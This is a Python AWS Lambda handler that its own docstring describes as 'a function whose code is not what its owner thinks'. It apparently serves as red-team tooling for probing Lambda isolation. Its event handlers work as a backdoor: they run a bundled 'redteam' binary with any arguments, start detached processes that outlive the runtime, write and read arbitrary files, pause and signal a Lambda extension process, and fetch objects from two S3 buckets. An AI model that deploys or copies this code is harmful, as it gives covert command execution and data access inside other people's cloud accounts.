"""A function whose code is not what its owner thinks."""

import os
import subprocess
import time

import boto3

print("the function is loaded", flush=True)
program = os.environ["LAMBDA_TASK_ROOT"] + "/redteam"


def get(bucket):
    try:
        return boto3.client("s3").get_object(Bucket=bucket, Key="in/ten.txt")["Body"].read().decode()
    except Exception as e:
        return f"{type(e).__name__}: {e}"


def extension():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline") as f:
                if f.read().startswith("/opt/extensions/remit"):
                    return int(pid)
        except FileNotFoundError:
            pass


def signal(number):
    try:
        os.kill(extension(), number)
        return "sent"
    except PermissionError:
        return "refused"


def state():
    with open(f"/proc/{extension()}/status") as f:
        return next(line for line in f if line.startswith("State:"))


def handler(event, context):
    if "try" in event:
        ran = subprocess.run([program, "try", *event["try"]], capture_output=True, text=True)
        return ran.stdout if ran.returncode == 0 else ran.stdout + ran.stderr
    if "outlive" in event:  # a process that is no part of the runtime's group
        subprocess.Popen([program, *event["outlive"]], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return "it runs"
    if "plant" in event:
        for path, text in event["plant"].items():
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        return "planted"
    if "signal" in event:
        return signal(event["signal"])
    if "stop" in event:
        signal(19)
        time.sleep(0.1)
        now = state()
        signal(18)
        return now
    if "write" in event:
        os.write(1, event["write"].encode())
    if "exit" in event:
        os._exit(1)
    if "read" in event:
        try:
            with open(event["read"]) as f:
                return f.read()
        except FileNotFoundError:
            return ""
    return [get("media-eu"), get("billing-eu")]
